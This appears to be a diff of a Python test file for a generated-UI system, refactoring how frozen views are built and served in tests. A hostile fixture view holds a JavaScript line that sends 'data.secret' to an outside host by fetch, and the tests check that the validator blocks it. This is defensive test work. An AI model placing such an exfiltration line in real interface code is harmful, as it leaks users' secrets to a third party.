@@ -1,14 +1,14 @@
 """Views that were made once: served to the tools that they were made for, after another look at them."""
 
 import pytest
-from attrs import evolve
+from attrs import define, evolve
 
+from genui_core.application.generation.frozen_maker import FrozenMaker
 from genui_core.application.generation.in_process_validator import InProcessValidator
-from genui_core.application.generation.view_maker import FrozenMaker
 from genui_core.application.generation.view_state import ViewState
+from genui_core.application.services import Services
 from genui_core.domain.prompting.facts import Facts
 from genui_core.domain.tools.tool import Tool
-from genui_core.domain.views.cache_key import ViewConfiguration
 from genui_core.domain.views.exported_views import ExportedSource, ExportedView, schema_hash
 from genui_core.domain.views.frozen_views import FrozenView, FrozenViews
 from genui_core.testing.event_log import RecordingEventLog
@@ -37,16 +37,31 @@ def anyio_backend():
     return "asyncio"
 
 
-def maker(text="a view", **changed):
+def frozen_views(text="a view", **changed):
     entry = evolve(ENTRY, **changed)
     view = FrozenView(entry=entry, source=text if entry.source else "")
-    return FrozenMaker(
-        views=FrozenViews({"list": view}),
-        configuration=ViewConfiguration("set", "9", "hash", 1),
-        validator=FirstWordValidator(),
-        identity=NumberedIdentity(),
-        event_log=RecordingEventLog(),
-    )
+    return FrozenViews({"list": view})
+
+
+@define
+class Maker:
+    """Serves frozen views, with the parts that tests look at."""
+
+    validator: object
+    event_log: RecordingEventLog
+    inner: FrozenMaker
+
+    def key(self, tool):
+        return self.inner.key(tool)
+
+    async def view(self, facts, request_id):
+        return await self.inner.view(facts, request_id)
+
+
+def maker(text="a view", validator=None, **changed):
+    validator, event_log = validator or FirstWordValidator(), RecordingEventLog()
+    services = Services(validator=validator, identity=NumberedIdentity(), event_log=event_log)
+    return Maker(validator, event_log, FrozenMaker(services, frozen_views(text, **changed)))
 
 
 async def test_a_view_is_served_as_it_was_made_and_keeps_its_key():
@@ -87,7 +102,7 @@ async def test_a_validator_that_fails_lets_nothing_pass_and_is_asked_again():
         async def validate(self, _text, _context):
             raise OSError("no process can be started")
 
-    made = evolve(maker(), validator=Ailing())
+    made = maker(validator=Ailing())
     view = await made.view(Facts(tool=TOOL), "now")
     assert (view.state, view.is_settled) == (ViewState.FALLBACK, False)
     assert "no process can be started" in view.reason
@@ -102,11 +117,11 @@ function render(data, ui) { fetch("https://example.org/" + data.secret); }
 
 
 async def test_somebody_elses_view_is_validated_as_strictly_as_a_models():
-    made = evolve(maker(HOSTILE, source=evolve(WRITTEN, mode="fragment")), validator=InProcessValidator())
+    made = maker(HOSTILE, InProcessValidator(), source=evolve(WRITTEN, mode="fragment"))
     assert (await made.view(Facts(tool=TOOL), "now")).source == ""
     assert "checks of views" in made.event_log.named("frozen_view_not_served")[0].metadata["reason"]
     harmless = HOSTILE.replace('fetch("https://example.org/" + data.secret)', "ui.root.append(data.secret)")
-    made = evolve(maker(harmless, source=evolve(WRITTEN, mode="fragment")), validator=InProcessValidator())
+    made = maker(harmless, InProcessValidator(), source=evolve(WRITTEN, mode="fragment"))
     assert "ui.root.append" in (await made.view(Facts(tool=TOOL), "now")).source
 
 
@@ -126,8 +141,7 @@ async def test_a_tool_whose_ui_was_the_minimal_one_keeps_it_without_a_word():
 
 
 async def test_a_frozen_view_needs_no_model_until_a_refinement_changes_its_key(workshop):
-    place = workshop("another view")
-    place.service.frozen = maker()
+    place = workshop("another view", frozen=frozen_views())
     view = await place.read(TOOL)
     assert (view.source, place.asked, place.changes) == ("a view", 0, [])
     assert (await place.read(TOOL)) is view
